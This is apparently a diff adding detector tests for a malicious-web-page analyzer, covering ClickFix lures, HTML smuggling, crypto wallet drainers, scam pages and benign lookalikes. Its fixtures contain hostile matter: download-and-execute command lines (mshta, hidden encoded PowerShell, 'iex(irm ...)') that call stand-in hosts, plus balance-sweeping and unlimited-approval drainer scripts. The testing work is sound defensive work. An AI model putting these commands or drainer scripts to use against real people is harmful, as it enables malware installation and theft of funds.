@@ -328,16 +328,21 @@ describe('analysis: signal rules', () => {
       const copyButton = kit('https://docs.example/', `<pre>powershell -c Get-Process</pre><script>b.onclick=()=>navigator.clipboard.writeText(p.innerText)</script>`);
       assert.equal(copyButton.result.verdict, 'clean');
       const captured = kit('https://c2.example/', '<p>Press Win+R</p>', { clipboardWrites: ['mshta https://x.example/a.hta'] });
-      assert.match(find(captured.signals, 'clipboard-shell-command')?.evidence ?? '', /^clipboard: mshta/);
+      assert.match(find(captured.signals, 'clipboard-shell-copied')?.evidence ?? '', /^clipboard: mshta/);
+      assert.ok(captured.result.decidedBy?.includes('combo:clickfix-copied'));
     });
 
     it('HTML smuggling, wallet drainers, tech-support scams, bot evasion', () => {
       const smuggle = kit('https://s.example/', `<script>var b=new Blob([u],{type:"application/octet-stream"});a.href=URL.createObjectURL(b);a.download="invoice.iso";a.click()</script>`);
       assert.ok(has(smuggle.signals, 'html-smuggling'));
       assert.equal(smuggle.result.verdict, 'malicious');
-      const drain = kit('https://d.example/', `<script>ethereum.request({method:"eth_requestAccounts"});c.setApprovalForAll(op, true)</script>`);
+      const drain = kit('https://d.example/', `<script>ethereum.request({method:"eth_requestAccounts"});token.approve(spender, ethers.constants.MaxUint256)</script>`);
       assert.ok(has(drain.signals, 'wallet-connect-request') && has(drain.signals, 'wallet-drain-calls'));
       assert.deepEqual(drain.result.categories, ['cryptodrainer']);
+      // Approval for all alone is what NFT marketplaces ask for: it decides only beside a lure or brand evidence.
+      const market = kit('https://d.example/', `<script>ethereum.request({method:"eth_requestAccounts"});c.setApprovalForAll(op, true)</script>`);
+      assert.ok(has(market.signals, 'wallet-approval-request') && !has(market.signals, 'wallet-drain-calls'));
+      assert.equal(market.result.verdict, 'clean');
       const scam = kit('https://t.example/', `<h1>Windows Security Alert</h1><p>Your computer has been blocked. Call Microsoft Support: +1-888-555-0199</p><script>setInterval(function(){alert("Virus")},1000);document.documentElement.requestFullscreen()</script>`);
       for (const id of ['tech-support-text', 'support-phone-number', 'scareware-behaviour']) assert.ok(has(scam.signals, id), id);
       assert.deepEqual(scam.result.categories, ['scam']);
@@ -614,6 +619,167 @@ describe('analysis: signal rules', () => {
         assert.equal(r.verdict, 'clean', `${r.verdict} by ${r.decidedBy?.join(',')}`);
       });
     }
+  });
+
+  describe('malware, scams, drainers and ClickFix (signals/malware.ts, scams.ts, wallet.ts)', () => {
+    const judge = (url: string, body: string, input: Partial<AnalysisInput> = {}): ReturnType<typeof analyze> => {
+      const result = analyze({ ...inputFromFetch(html(url, body)), ...input }, { threatIntel: ThreatIntelIndex.empty(), rules });
+      for (const s of result.signals) produced.add(s.id);
+      return result;
+    };
+    const ids = (r: ReturnType<typeof analyze>): string[] => r.signals.map((s) => s.id);
+    const clean = (r: ReturnType<typeof analyze>): void => assert.equal(r.verdict, 'clean', `${r.verdict} by ${r.decidedBy?.join(',')}`);
+
+    it('malware: a pretext in another language beside a payload; several pretexts beside a download button whose file is not visible', () => {
+      const update = judge('https://zahnarzt-mueller.example/', '<h1>Ihr Browser ist veraltet</h1><p>Aktualisieren Sie Ihren Browser, um die Seite anzuzeigen.</p><a href="/wp-content/uploads/Update.zip">Jetzt aktualisieren</a>');
+      assert.ok(ids(update).includes('malware-lure-text'));
+      assert.ok(update.decidedBy?.includes('combo:malware-lure-download'));
+      const crack = judge('https://soft-free.example/tool-pro/', '<h1>Tool Pro 2026 Crack + Keygen</h1><ol><li>Désactivez votre antivirus avant l\'installation</li><li>Archive password: 2026</li></ol><a href="/go/?id=88">DOWNLOAD</a>');
+      assert.ok(ids(crack).includes('malware-pretexts') && ids(crack).includes('download-cta'));
+      assert.ok(crack.decidedBy?.includes('combo:malware-pretexts-download'));
+      assert.deepEqual(crack.categories.slice(0, 1), ['malware']);
+      const cheat = judge('https://blox-exec.example/', '<h1>Roblox executor, keyless and undetected</h1><p>Turn off Windows Defender real-time protection first. Extract with the password: blox</p><a href="https://mega.nz/file/abc#key">Get it</a>');
+      assert.equal(cheat.verdict, 'malicious');
+    });
+
+    it('malware: an advertised document delivered as an archive or script; a product named on a foreign host delivered under its name; a download the page starts itself', () => {
+      const doc = judge('https://share-docs.example/c/1', '<h2>Signed contract</h2><a href="/files/Contract_2026.zip">Download the contract (PDF)</a>');
+      assert.ok(ids(doc).includes('document-payload-mismatch'));
+      assert.ok(doc.decidedBy?.includes('combo:document-payload'));
+      const titled = judge('https://viewer.example/d/7', '<title>Q3_Budget.xlsx</title><a href="/d/7/Q3_Budget.js" download>Open</a>');
+      assert.match(titled.signals.find((x) => x.id === 'document-payload-mismatch')?.evidence ?? '', /q3_budget/);
+      const zoom = judge('https://zoom-meetings-app.example/download', '<title>Zoom Meetings - Download</title><h1>Download Zoom</h1><a href="/bin/ZoomInstallerFull.exe">Download for Windows</a>');
+      assert.ok(ids(zoom).includes('brand-named-payload'));
+      assert.ok(zoom.decidedBy?.includes('combo:brand-payload'));
+      const auto = judge('https://news-portal.example/', '<meta http-equiv="refresh" content="2;url=/upd/ChromeSetup.msi"><h1>Your browser is out of date</h1><p>Update Chrome to continue.</p>');
+      assert.ok(ids(auto).includes('auto-download'));
+      assert.equal(auto.verdict, 'malicious');
+    });
+
+    const malwareLookalikes: [string, string, string][] = [
+      ['a vendor thank-you page starting its own installer, with a SmartScreen note', 'https://www.inkpad.app/thanks', '<meta http-equiv="refresh" content="1;url=/files/Inkpad-Setup-1.4.exe"><h1>Thanks for downloading Inkpad</h1><p>Your download starts automatically. If Windows SmartScreen warns, click More info, then Run anyway.</p><a href="/files/Inkpad-Setup-1.4.exe">Download again</a>'],
+      ['a product that also ships a Chrome extension as a zip', 'https://www.inkpad.app/download', '<title>Download Inkpad — Windows, macOS, Chrome</title><h2>Chrome</h2><a href="/files/inkpad-chrome-extension.zip">Download the extension (.zip)</a><h2>Windows</h2><a href="/files/Inkpad-Setup.exe">Download</a>'],
+      ['a browser-update banner linking to an information page', 'https://www.stadtwerke-nord.example/', '<div class="buorg">Your web browser (IE 11) is out of date. Update your browser for more security, speed and the best experience on this site. <a href="https://browser-update.org/update-browser.html">Update browser</a></div><h1>Stadtwerke Nord</h1>'],
+      ['a bank page asking for a supported browser, linking to the vendors', 'https://banking.example-bank.de/unsupported', '<h1>Your browser is outdated and no longer supported</h1><p>Please download a current browser:</p><a href="https://www.google.com/chrome/">Download Chrome</a> <a href="https://www.mozilla.org/firefox/new/">Download Firefox</a>'],
+      ['a file share offering all files as a zip', 'https://files.kestrel-architects.com/s/9q', '<title>Site plan.pdf and 2 more files</title><h1>Maria shared 3 files</h1><a href="/s/9q/all.zip">Download all (ZIP)</a> <a href="/s/9q/site-plan.pdf">Site plan (PDF)</a>'],
+      ['an IT page on why not to disable antivirus, with a tool download', 'https://it.northwind-traders.com/kb/vpn', '<h1>Installing the VPN client</h1><p>Never disable your antivirus to install software. If the installer is blocked, contact the service desk.</p><a href="/downloads/vpn-client.msi">Download VPN client</a>'],
+    ];
+    for (const [what, url, body] of malwareLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));
+
+    it('ClickFix: a human check that copies a command built in the script (even one fetched at click time); other copy buttons beside a human check are not', () => {
+      const fetched = judge('https://files-share.example/s/1', `<h3>One more step</h3><div id="v">Verify you are human</div><script>v.onclick=async()=>{const j=await (await fetch('/api/c')).json();await navigator.clipboard.writeText(j.payload+' # '+j.label);}</script>`);
+      assert.ok(ids(fetched).includes('clipboard-script-text') && ids(fetched).includes('human-check-text'));
+      assert.ok(fetched.decidedBy?.includes('combo:clickfix-scripted-copy'));
+      const ru = judge('https://proverka.example/', `<h1>Подтвердите, что вы не робот</h1><p>Нажмите Win + R, затем Ctrl + V и Enter.</p><script>c.onclick=function(){var cmd='mshta https://proverka.example/v.hta # Я не робот';var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');}</script>`);
+      assert.deepEqual(ru.categories.slice(0, 1), ['clickfix']);
+    });
+
+    it('ClickFix in the browser: a copied command decides beside a human check or Run steps, not alone (documentation copy buttons copy one-liners too)', () => {
+      const docs = judge('https://brewline.example/', '<h1>Install Brewline</h1><code id="i">/bin/bash -c "$(curl -fsSL https://raw.example.org/install.sh)"</code><button data-copy="i">Copy</button><p>Paste that in a macOS Terminal.</p>', { clipboardWrites: ['/bin/bash -c "$(curl -fsSL https://raw.example.org/install.sh)"'] });
+      assert.ok(ids(docs).includes('clipboard-shell-copied'));
+      clean(docs);
+      const scoop = judge('https://get.scoopline.example/', '<h1>Install Scoopline</h1><p>Open PowerShell (not as admin), paste the command and press Enter:</p><code id="c">irm get.scoopline.example | iex</code><button data-copy="c">Copy</button>', { clipboardWrites: ['irm get.scoopline.example | iex'] });
+      clean(scoop);
+      const font = judge('https://dental-blog.example/post', `<h1>The "HoeflerText" font wasn't found</h1><p>Right-click the Windows icon, select Windows PowerShell (Admin), paste the copied code and press Enter.</p><script>fix.onclick=function(){navigator.clipboard.writeText('powershell -NoP -W Hidden -enc ' + p)}</script>`);
+      assert.ok(font.decidedBy?.includes('combo:clickfix-pretext'));
+      const gate = judge('https://gate.example/', '<h1>Verify you are human</h1><div id="b">I am not a robot</div>', { clipboardWrites: ['powershell -w h -c "iex(irm https://gate.example/a)"'] });
+      assert.ok(gate.decidedBy?.includes('combo:clickfix-copied'));
+      const checksum = judge('https://brewline.example/verify', '<h1>Install Brewline</h1><h2>Verification steps</h2><p>Security check: compare the installer checksum. Paste this in a Terminal:</p><code id="i">curl -fsSL https://get.brewline.example | sh</code><button data-copy="i">Copy</button>', { clipboardWrites: ['curl -fsSL https://get.brewline.example | sh'] });
+      clean(checksum);
+    });
+
+    const clickfixLookalikes: [string, string, string][] = [
+      ['a challenge page copying its Ray ID', 'https://forum.example.org/cdn-cgi/challenge', `<title>Just a moment...</title><h2>Verify you are human by completing the action below.</h2><p>Ray ID: <code>8f3a1c29be7d41e2</code> <button id="c">Copy</button></p><script>var ray='8f3a1c29be7d41e2';c.onclick=function(){navigator.clipboard.writeText(ray)}</script>`],
+      ['a paste site with a captcha and a copy button for the paste', 'https://paste.example.net/new', `<h1>New paste</h1><textarea id="paste"></textarea><div class="g-recaptcha"></div><p>I'm not a robot</p><button onclick="navigator.clipboard.writeText(document.getElementById('paste').value)">Copy</button>`],
+      ['a French KB article: Win+R and a copy button for a local command', 'https://support.fournisseur.example/kb/dns', `<h1>Vider le cache DNS</h1><ol><li>Appuyez sur Windows + R, tapez cmd et appuyez sur Entrée.</li><li>Collez la commande puis appuyez sur Entrée.</li></ol><pre>ipconfig /flushdns</pre><button onclick="navigator.clipboard.writeText('ipconfig /flushdns')">Copier</button>`],
+    ];
+    for (const [what, url, body] of clickfixLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));
+
+    it('scams: money to receive and a fee to pay first (lottery, job), in several languages; a refund desk asking for remote access; investment promises; alarms with a number to call', () => {
+      const lottery = judge('https://premios-intl.example/reclamo/77', '<h1>Notificación de premio</h1><p>Usted ha ganado 850.000 € en nuestro sorteo internacional.</p><p>Para liberar el pago, la tasa de liberación de 495 € debe pagarse antes de la transferencia.</p>');
+      assert.ok(ids(lottery).includes('payout-promise-text') && ids(lottery).includes('upfront-fee-text'));
+      assert.ok(lottery.decidedBy?.includes('combo:advance-fee'));
+      const job = judge('https://remote-jobs-hiring.example/offer', '<h1>Congratulations, you have been hired!</h1><p>Your starter kit fee of $89 must be paid before your first shift. Pay by gift card.</p>');
+      assert.ok(job.decidedBy?.includes('combo:advance-fee'));
+      const refund = judge('https://refund-desk.example/', '<h1>Order confirmation</h1><p>Your subscription of $399.99 has been renewed. If you did not authorise this charge, download AnyDesk and give the 9-digit code to your refund agent.</p>');
+      assert.ok(ids(refund).includes('remote-access-text'));
+      assert.ok(refund.decidedBy?.includes('combo:refund-remote-access'));
+      const invest = judge('https://finanz-news.example/exklusiv', '<h1>TV-Moderator verrät, wie er 28.000 € im Monat verdient</h1><p>Der Algorithmus handelt vollautomatisch für Sie, mit einer Erfolgsquote von 99,4 %. Mindesteinzahlung 250 €.</p>');
+      assert.ok(invest.decidedBy?.includes('combo:investment-scam'));
+      const alarm = judge('https://avviso-sicurezza.example/', '<h1>Il tuo computer è stato bloccato</h1><p>Virus rilevato: Trojan Spyware. Chiama l\'assistenza Microsoft: 800 123 456</p><script>window.onbeforeunload=function(){return "?"}</script>');
+      for (const id of ['tech-support-text', 'support-phone-number', 'scareware-behaviour']) assert.ok(ids(alarm).includes(id), id);
+      assert.deepEqual(alarm.categories.slice(0, 1), ['scam']);
+    });
+
+    const scamLookalikes: [string, string, string][] = [
+      ['a lottery results page warning that winners never pay a fee', 'https://www.lotto-results.example/draw/2026-11-24', '<h1>Results of 24 November</h1><p>Jackpot €85,000,000, not won. Have you won? Check your ticket at any retailer.</p><p>The lottery never e-mails winners and never asks for a processing fee to be paid before a prize is released.</p>'],
+      ['a shop returns policy', 'https://www.alpine-outfitters.example/returns', '<h1>Returns and refunds</h1><p>You are eligible for a refund within 30 days of delivery. Return shipping costs must be paid by the customer before we can accept the parcel; refunds are issued to the original card.</p>'],
+      ['an ISP support page offering remote help', 'https://www.kestrelnet.example/help/remote', '<h1>Remote support</h1><p>Our technician may ask you to install TeamViewer QuickSupport and tell them your ID, so they can see your screen.</p><p>Call technical support: 0330 088 4141.</p>'],
+      ['an Italian device-support page with a freephone number', 'https://assistenza.lumetra.example/contatti', '<title>Contatta l\'assistenza | Lumetra</title><h1>Contatta l\'assistenza</h1><p>Chiama l\'assistenza tecnica: 800 912 480 (numero verde), lun–sab 9–19.</p>'],
+      ['a savings account with a guaranteed rate and a minimum deposit', 'https://www.banque-exemple.fr/epargne/livret', '<h1>Livret Épargne Plus</h1><p>Rendement garanti de 3 % par an. Dépôt minimum de 10 €. Votre épargne reste disponible à tout moment.</p>'],
+      ['a robo-advisor whose algorithm invests automatically, with a minimum investment', 'https://www.steadyfolio.example/how-it-works', '<h1>Investing, done for you</h1><p>Our algorithm invests your money automatically in a diversified portfolio and rebalances it for you. Minimum investment of £500. Capital at risk: the value of investments can go down as well as up.</p>'],
+      ['a regulated broker with its risk warning', 'https://www.albion-markets.example/cfds', '<p>CFDs are complex instruments: 71% of retail investor accounts lose money.</p><h1>Trade CFDs on 10,000 markets</h1><p>No guaranteed returns: past performance is not a reliable indicator. Open an account or try the demo.</p>'],
+    ];
+    for (const [what, url, body] of scamLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));
+
+    it('drainers: an amount derived from the balance with nothing to type (EVM and Solana); rights over NFTs beside a lure; a phrase box on a sync page', () => {
+      const evm = judge('https://steth-migrate.example/', `<h2>Migrate</h2><button id="m">Connect</button><script>m.onclick=async()=>{const a=(await ethereum.request({method:'eth_requestAccounts'}))[0];const bal=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));const v=bal-10n**15n;await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x4E2c1b7D9a3F5e8C0b2D4f6A8c1E3a5B7d9F0e21',value:'0x'+v.toString(16)}]});}</script>`);
+      assert.ok(ids(evm).includes('wallet-balance-sweep'));
+      assert.ok(evm.decidedBy?.includes('combo:wallet-balance-sweep'));
+      const sol = judge('https://rewards-claim.example/', `<h1>Claim your airdrop</h1><script>b.onclick=async()=>{const p=window.phantom?.solana;const {publicKey}=await p.connect();const bal=await conn.getBalance(publicKey);const tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:publicKey,toPubkey:RCV,lamports:bal-10000}));await p.signAllTransactions([tx]);}</script>`);
+      assert.deepEqual(sol.categories.slice(0, 1), ['cryptodrainer']);
+      const nft = judge('https://nft-rewards.example/claim', `<h1>Claim your free NFT airdrop</h1><script>connect.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:COLL,data:'0xa22cb465'+OP+'1'.padStart(64,'0')}]});}</script>`);
+      assert.ok(ids(nft).includes('wallet-lure-text') && ids(nft).includes('wallet-approval-request'));
+      assert.ok(nft.decidedBy?.includes('combo:wallet-lure-approval'));
+      const sync = judge('https://wallet-sync.example/import', '<h2>Sync your wallet</h2><textarea id="p" placeholder="Phrase"></textarea><p>Typically 12 (sometimes 24) words separated by single spaces</p><button>SYNC</button>');
+      assert.ok(ids(sync).includes('credential-seed-phrase'));
+      assert.equal(sync.verdict, 'malicious');
+    });
+
+    it('drainers: a "claim fee" sent as a plain transfer to the page\'s own address beside a claim lure; a mint with call data is not that', () => {
+      const fee = judge('https://token-claim.example/', `<h1>Claim your airdrop</h1><p>Pay the 0.01 ETH network fee to receive 5,000 tokens.</p><script>c.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:'0x2D9b4e6F8a0c1E3b5D7f9A1c3E5b7D9f0A2c4E6b',value:'0x2386f26fc10000'}]});}</script>`);
+      assert.ok(ids(fee).includes('wallet-plain-transfer'));
+      assert.ok(fee.decidedBy?.includes('combo:wallet-lure-approval'));
+      const mint = judge('https://www.shorecats.example/mint', `<h1>Public mint is live</h1><p>0.05 ETH each.</p><script>m.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:MINTER,value:'0xb1a2bc2ec50000',data:'0xa0712d68'+qty}]});}</script>`);
+      clean(mint);
+    });
+
+    it('malware: a password shown beside an archive; a Blob saved with FileSaver; romance and equipment fee scams', () => {
+      const shown = judge('https://free-soft.example/app', '<h1>App Pro full</h1><a href="/f/AppPro.rar">Download</a><p>Password: 2026</p>');
+      assert.match(shown.signals.find((x) => x.id === 'malware-lure-text')?.evidence ?? '', /archivePassword/);
+      assert.equal(shown.verdict, 'malicious');
+      const helpZip = judge('https://docs.acme-notes.example/start', '<h1>Getting started</h1><p>Password: at least 8 characters.</p><a href="/f/samples.zip">Sample files</a>');
+      clean(helpZip);
+      const saved = judge('https://doc-view.example/', `<script>var b=new Blob([bytes]);saveAs(b, "Payment_Details.iso");</script>`);
+      assert.ok(ids(saved).includes('html-smuggling'));
+      const romance = judge('https://my-love-letters.example/', '<p>My darling, I have saved for months so I can come to see you.</p><p>The visa fee is $1,800 and I must pay it this week: please send the money via Western Union to my agent.</p>');
+      assert.ok(romance.decidedBy?.includes('combo:advance-fee'));
+      const equipment = judge('https://careers-remote.example/onboarding', '<h1>Welcome aboard</h1><p>We are pleased to offer you the position of Remote Data Clerk.</p><p>Please purchase your laptop and software from our approved vendor; you will be reimbursed with your first salary.</p>');
+      assert.ok(equipment.decidedBy?.includes('combo:advance-fee'));
+    });
+
+    it('drainers: a project named on a host it does not own, a claim lure and a "Connect wallet" button, the wallet code in an external script; scareware that speaks through alert()', () => {
+      const ext = judge('https://lido-rewards-claim.example/', '<title>Lido | Claim stETH rewards</title><h1>Lido airdrop</h1><p>Eligible wallets can claim their allocation before the snapshot closes.</p><button id="c">Connect wallet</button><script src="/static/app.min.js"></script>');
+      assert.ok(ids(ext).includes('wallet-connect-cta') && ids(ext).includes('wallet-lure-text'));
+      assert.ok(ext.decidedBy?.includes('combo:brand-wallet-lure'));
+      const own = judge('https://stake.lido.fi/rewards', '<title>Lido | Claim stETH rewards</title><h1>Lido airdrop</h1><p>Eligible wallets can claim their allocation.</p><button id="c">Connect wallet</button><script src="/static/app.min.js"></script>');
+      clean(own);
+      const news = judge('https://www.chainwire.example/news/lido-airdrop', '<title>Lido airdrop: what we know</title><h1>Lido airdrop</h1><p>Eligible wallets can claim at the official site.</p><a href="https://stake.lido.fi/">Connect wallet on lido.fi</a>');
+      clean(news);
+      const alerts = judge('https://pc-alert.example/', '<h1>Windows Security</h1><script>setInterval(function(){alert("Your computer has been blocked. Trojan spyware detected. Call Microsoft Support: +1-888-555-0199")},3000)</script>');
+      assert.ok(alerts.decidedBy?.includes('combo:tech-support-scam'));
+    });
+
+    const walletLookalikes: [string, string, string][] = [
+      ['a bridge whose Max button leaves gas and sends what the visitor typed', 'https://app.tidebridge.example/', `<input id="amount" inputmode="decimal" placeholder="0.0"><button id="max">Max</button><script>max.onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const bal=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));amount.value=String(Number(bal-10n**15n)/1e18)};go.onclick=async()=>{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:BRIDGE,value:toWei(amount.value)}]})}</script>`],
+      ['an NFT marketplace listing (approval for all to its conduit, a Seaport order)', 'https://www.tidepool-nft.example/item/44', `<h1>Shore #44</h1><p>Listing requires a one-time approval; you can revoke the approval at any time.</p><input id="price" value="0.8"><script>list.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:COLL,data:'0xa22cb465'+CONDUIT+'1'.padStart(64,'0')}]});const typed={primaryType:'OrderComponents',message:order};await ethereum.request({method:'eth_signTypedData_v4',params:[me,JSON.stringify(typed)]});}</script>`],
+      ['a swap approving the exact amount', 'https://app.lumaswap.example/', `<input id="amt" value="100"><script>swap.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:USDC,data:'0x095ea7b3'+hex(ROUTER)+hex(amount)}]});}</script>`],
+      ['a project claim page on its own domain signing terms', 'https://claim.harborlend.example/', `<h1>Check your eligibility</h1><p>Eligible wallets can claim HBL tokens.</p><script>c.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'personal_sign',params:['I accept the terms',me]});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:DISTRIBUTOR,data:claimData}]});}</script>`],
+      ['a donation page sending what the visitor typed', 'https://www.instituto-mares.example/doe', `<h1>Doe ETH</h1><input id="amount" placeholder="0.0"><script>d.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:'0x4D2c8F1a6b3E9d7C5a0B2e4F6c8D1a3E5b7C9f02',value:toHex(amount.value)}]});}</script>`],
+      ['a wallet help article with a feedback box', 'https://support.foxhollow.example/hc/articles/srp', '<h1>What is a Secret Recovery Phrase?</h1><p>Your Secret Recovery Phrase is 12 words. Never enter your recovery phrase on a website: no support agent will ask for it.</p><form><textarea></textarea><button>Send feedback</button></form>'],
+      ['developer docs about private keys with an API key name box', 'https://docs.cloudkeys.example/keys', '<h1>Create a private key</h1><p>Generate a private key for signing webhooks. Enter a name for the key:</p><input name="key_name" placeholder="API key name"><p>Store the private key safely.</p>'],
+    ];
+    for (const [what, url, body] of walletLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));
   });
 
   describe('rendered capture', () => {
